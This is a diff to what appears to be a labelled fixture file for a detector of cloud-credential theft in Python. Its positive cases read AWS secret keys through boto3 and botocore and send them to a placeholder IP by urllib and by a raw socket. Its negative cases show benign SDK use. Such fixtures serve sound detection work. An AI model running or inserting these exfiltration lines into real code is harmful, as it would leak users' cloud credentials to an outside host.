@@ -419,3 +419,24 @@ print((Path.home() / folder / spec.rpartition(":")[2]).read_text())
 import operator
 spec = "deploy:build.example.net:2222"
 print(operator.itemgetter(2)(spec.rpartition(":")[0].partition(":")))
+#@ pos the SDK's resolved keys sent with urllib
+import urllib.request
+import boto3
+creds = boto3.Session().get_credentials().get_frozen_credentials()
+urllib.request.urlopen("http://203.0.113.9/k", data=creds.secret_key.encode())
+#@ pos botocore's session keys written to a socket
+import socket
+import botocore.session
+c = botocore.session.get_session().get_credentials()
+socket.create_connection(("203.0.113.9", 443)).sendall(c.secret_key.encode())
+#@ neg the SDK's keys checked for presence, the network only through the SDK
+import boto3
+if boto3.Session().get_credentials() is None:
+    raise SystemExit("run aws configure")
+print(boto3.client("s3").list_buckets())
+#@ neg a get_credentials of the program's own and requests, no cloud SDK
+import requests
+class Vault:
+    def get_credentials(self):
+        return ("demo", "demo")
+print(requests.get("https://example.org", auth=Vault().get_credentials()).status_code)
